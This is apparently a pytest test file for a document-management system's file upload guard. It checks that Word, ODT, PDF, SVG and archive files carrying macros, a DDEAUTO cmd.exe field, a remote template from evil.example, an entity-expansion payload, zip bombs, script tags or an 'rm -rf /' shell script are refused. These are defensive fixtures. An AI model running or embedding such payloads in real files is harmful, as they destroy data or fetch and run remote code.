"""Files in and out: what is kept, what is refused and what to do then, and words that come back as they went."""

from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from PIL import Image

from gapura.kernel.identity.types import AccessDenied
from gapura.sectors.office.actions.drafts import create_draft
from gapura.sectors.office.actions.files import add_attachment, add_picture, import_file, remove_file
from gapura.sectors.office.models import DocumentFile
from gapura.sectors.office.printing import render_odt, render_page, render_pdf
from gapura.sectors.office.queries import list_unit_tasks
from gapura.sectors.office.testing import NOW, make_office
from gapura.sectors.office.text import words_of
from gapura.sectors.office.types import CannotDraft

pytestmark = [pytest.mark.django_db, pytest.mark.database]
TEXT = """## Background

Standards are *published* by **every** unit, see [the law](https://jdih.go.id).

1. One
2. Two
   - inner

| Unit | Day |
| --- | --- |
| North | Monday |

> As it was said.

```
code  with  blanks
```

---

Last words.
"""
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CONTENT_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"


@pytest.fixture
def office():
    return make_office()


@pytest.fixture
def document(office):
    task = list_unit_tasks(agency_code="kemenpan-rb")[0].code
    return create_draft(actor=office.analyst, form="note", title="Standards", task_code=task, body=TEXT, now=NOW)


def zipped(parts, **options):
    content = BytesIO()
    with ZipFile(content, "w", ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return content.getvalue()


def word_file(body="<w:p><w:r><w:t>Hello from Word</w:t></w:r></w:p>", kind="document.main", **others):
    main = f"application/vnd.openxmlformats-officedocument.wordprocessingml.{kind}+xml"
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{CONTENT_TYPES}">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1"'
        f' Type="{OFFICE_RELATIONS}/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/document.xml": f'<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>',
    }
    return zipped(parts | others)


def writer_file(content="", **others):
    parts = {
        "mimetype": "application/vnd.oasis.opendocument.text",
        "META-INF/manifest.xml": "<manifest/>",
        "content.xml": content or "<office/>",
    }
    return zipped(parts | others)


def locked():
    content = bytearray(word_file())
    for at in range(len(content) - 4):  # the flag of encryption in every local and central head
        if content[at : at + 4] == b"PK\x03\x04":
            content[at + 6] |= 1
        elif content[at : at + 4] == b"PK\x01\x02":
            content[at + 8] |= 1
    return bytes(content)


def picture(kind="PNG", **options):
    content = BytesIO()
    Image.new("RGB", (60, 40), "teal").save(content, kind, **options)
    return content.getvalue()


def script_pdf():
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\nxref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n"
        b"0000000096 00000 n \ntrailer<</Size 3/Root 1 0 R>>\nstartxref\n141\n%%EOF\n"
    )


ATTACHED = f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{OFFICE_RELATIONS}/attachedTemplate"' + (
    ' Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
BILLION = '<!DOCTYPE a [<!ENTITY x "lol"><!ENTITY y "&x;&x;&x;&x;">]><a>&y;</a>'
REFUSED = {
    "a macro in a Word file": (word_file(**{"word/vbaProject.bin": b"x"}), "macros"),
    "a Word file of the macro kind": (word_file(kind="macroEnabled.main"), "macros"),
    "a macro in an ODT file": (writer_file(**{"Basic/Standard/Module1.xml": "<x/>"}), "macros"),
    "a script in an ODT file": (writer_file(**{"Scripts/python/a.py": "x"}), "macros"),
    "an ODT file that acts when opened": (writer_file("<a><script:event-listener/></a>"), "macros"),
    "a template from elsewhere": (word_file(**{"word/_rels/settings.xml.rels": ATTACHED}), "fetches"),
    "a command in a field": (word_file("<w:instrText> DDEAUTO c:\\\\cmd.exe </w:instrText>"), "fetches"),
    "a program inside": (word_file(**{"word/embeddings/oleObject1.bin": b"MZ"}), "fetches"),
    "an ActiveX part": (word_file(**{"word/activeX/activeX1.xml": "<x/>"}), "fetches"),
    "a locked archive": (locked(), "password"),
    "a locked ODT file": (writer_file(**{"META-INF/manifest.xml": "<m:encryption-data/>"}), "password"),
    "entities": (word_file(**{"word/document.xml": BILLION}), "unpacks"),
    "an archive that unpacks into much": (zipped({f"{n}.bin": bytes(40_000_000) for n in range(3)}), "unpacks"),
    "other letters than UTF-8": (word_file(**{"word/document.xml": "<a/>".encode("utf-16")}), "damaged"),
    "an archive of files": (zipped({"a.txt": "x"}), "Unpack it"),
    "half an archive": (word_file()[:300], "damaged"),
    "an old Word file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "old format"),
    "a web page": (b"<!DOCTYPE html><p>x</p>", "Web pages"),
    "a drawing with code": (b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", "Web pages"),
    "a web page called text": (b"Hello <script>alert(1)</script>", "Web pages"),
    "a program": (b"MZ\x90\x00", "program"),
    "a shell script": (b"#!/bin/sh\nrm -rf /\n", "program"),
    "a PDF that acts": (script_pdf(), "would do something"),
    "half a PDF": (b"%PDF-1.7 nothing", "damaged"),
    "half a picture": (picture()[:40], "no picture"),
    "nonsense": (bytes(range(256)), "Save it as PDF"),
    "nothing": (b"", "empty"),
    "too much": (b"a" * (10_240 * 1024 + 1), "larger than"),
}


@pytest.mark.parametrize("case", REFUSED)
def test_what_could_act_by_itself_is_refused_and_says_what_to_do(office, document, case):
    content, said = REFUSED[case]
    with pytest.raises(CannotDraft, match=said):
        add_attachment(actor=office.analyst, code=document.code, name="report.docx", content=content, now=NOW)
    assert not DocumentFile.objects.exists()


KEPT = {
    "docx": word_file(),
    "odt": writer_file(),
    "txt": "Selamat pagi, 안녕".encode(),
    "jpg": picture("JPEG"),
}


@pytest.mark.parametrize("kind", KEPT)
def test_harmless_files_are_kept_under_what_they_are(office, document, kind):
    content = KEPT[kind]
    file = add_attachment(actor=office.analyst, code=document.code, name='../x/ev il".exe', content=content, now=NOW)
    assert file.name == f"ev-il.{kind}"
    assert kind == "jpg" or bytes(file.content) == content
    again = add_attachment(actor=office.analyst, code=document.code, name="copy", content=content, now=NOW)
    assert again == file
    other = add_attachment(actor=office.analyst, code=document.code, name="ev il.txt", content=b"Other", now=NOW)
    assert other.name == ("ev-il-2.txt" if kind == "txt" else "ev-il.txt")


def test_a_drawn_pdf_of_ours_is_an_attachment_as_well(office, document):
    pdf = render_pdf(document, now=NOW)
    assert add_attachment(actor=office.analyst, code=document.code, name="p", content=pdf, now=NOW).name == "p.pdf"


def test_a_picture_is_drawn_anew_without_place_and_camera(office, document):
    exif = Image.Exif()
    exif[0x010F] = "Secret camera"
    content = picture("JPEG", exif=exif)
    assert b"Secret camera" in content
    file = add_picture(actor=office.analyst, code=document.code, name="map.jpeg", content=content, now=NOW)
    assert (file.name, file.is_picture, file.media_type) == ("map.jpg", True, "image/jpeg")
    assert b"Secret camera" not in bytes(file.content)
    for wrong in (b"<svg/>", b"%PDF-", b"GIF89a", picture()[:50]):
        with pytest.raises(CannotDraft, match="no picture"):
            add_picture(actor=office.analyst, code=document.code, name="x", content=wrong, now=NOW)


def test_a_document_has_so_many_files_and_no_more(office, document, monkeypatch):
    monkeypatch.setattr(
        "gapura.sectors.office.actions.files.get_limit",
        {"office_attachment_kib": 10, "office_files_per_document": 1}.get,
    )
    file = add_attachment(actor=office.analyst, code=document.code, name="a", content=b"a", now=NOW)
    with pytest.raises(CannotDraft, match="at most 1 files"):
        add_attachment(actor=office.analyst, code=document.code, name="b", content=b"b", now=NOW)
    remove_file(actor=office.analyst, code=document.code, file_code=file.code, now=NOW)
    add_attachment(actor=office.analyst, code=document.code, name="b", content=b"b", now=NOW)
    with pytest.raises(CannotDraft, match="not in the document"):
        remove_file(actor=office.analyst, code=document.code, file_code=file.code, now=NOW)


def test_only_writers_bring_files(office, document):
    for act in (add_attachment, add_picture, import_file):
        with pytest.raises(AccessDenied):
            act(actor=office.colleague, code=document.code, name="a", content=b"a", now=NOW)


def test_what_goes_out_as_odt_comes_back_with_the_same_words(office, document):
    add_picture(actor=office.analyst, code=document.code, name="map", content=picture(), now=NOW)
    document.body = TEXT + "\n![A map](map.jpg)\n"
    document.save()
    odt = render_odt(document)
    task = document.task_code
    other = create_draft(actor=office.analyst, form="note", title="Back", task_code=task, body="", now=NOW)
    imported = import_file(actor=office.analyst, code=other.code, name="x.odt", content=odt, now=NOW)
    assert imported.left_out == {}
    assert words_of(imported.document.body) == "Standards\n" + words_of(document.body)
    assert imported.document.files.get().is_picture
    assert "![A map](<picture-1.jpg>)" in imported.document.body


def test_a_word_file_is_read_and_what_was_left_out_is_said(office, document):
    body = (
        '<w:p><w:pPr><w:pStyle w:val="Heading1"/></w:pPr><w:r><w:t>Head</w:t></w:r></w:p>'
        "<w:p><w:r><w:rPr><w:b/></w:rPr><w:t>Strong</w:t></w:r>"
        "<w:r><w:t xml:space='preserve'> and *plain*</w:t></w:r></w:p>"
        "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>A</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>B</w:t></w:r></w:p></w:tc>"
        "</w:tr></w:tbl><w:p><w:del w:id='1'><w:r><w:delText>gone</w:delText></w:r></w:del></w:p>"
    )
    styles = (
        f'<w:styles xmlns:w="{WORD}"><w:style w:type="paragraph" w:styleId="Heading1"><w:name w:val="heading 1"/>'
        "</w:style></w:styles>"
    )
    relations = (
        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{OFFICE_RELATIONS}/styles"'
        ' Target="styles.xml"/>'
        "</Relationships>"
    )
    content = word_file(body, **{"word/styles.xml": styles, "word/_rels/document.xml.rels": relations})
    imported = import_file(actor=office.analyst, code=document.code, name="x.docx", content=content, now=NOW)
    assert imported.document.body.startswith(TEXT.rstrip())
    assert imported.document.body.endswith("# Head\n\n**Strong** and \\*plain\\*\n\n| A | B |\n| --- | --- |\n")
    assert imported.left_out == {"change": 1}


@pytest.mark.parametrize(
    "case", ["a macro in a Word file", "entities", "a locked archive", "a web page", "half an archive"]
)
def test_what_cannot_be_attached_cannot_be_read_either(office, document, case):
    with pytest.raises(CannotDraft):
        import_file(actor=office.analyst, code=document.code, name="x", content=REFUSED[case][0], now=NOW)
    document.refresh_from_db()
    assert document.version == 1


def test_the_html_page_and_the_pdf_hold_the_words_and_no_code(document):
    document.body += "\n<script>alert(1)</script>\n"
    page = render_page(document)
    assert "<script" not in page
    assert "&lt;script&gt;" in page
    assert b"/JavaScript" not in render_pdf(document, now=NOW)


def test_a_guard_that_is_taken_away_lets_the_macro_in(office, document, monkeypatch):
    """The planted fault: the refusals above come from the guards, not from chance."""
    from gapura.sectors.office.text import zips

    content = word_file(**{"word/vbaProject.bin": b"x"})
    with pytest.raises(zips.Unfit, match="macro"):
        zips.look_into(content)
    monkeypatch.setattr(zips, "_require_harmless", lambda parts: None)
    assert zips.look_into(content) == "docx"
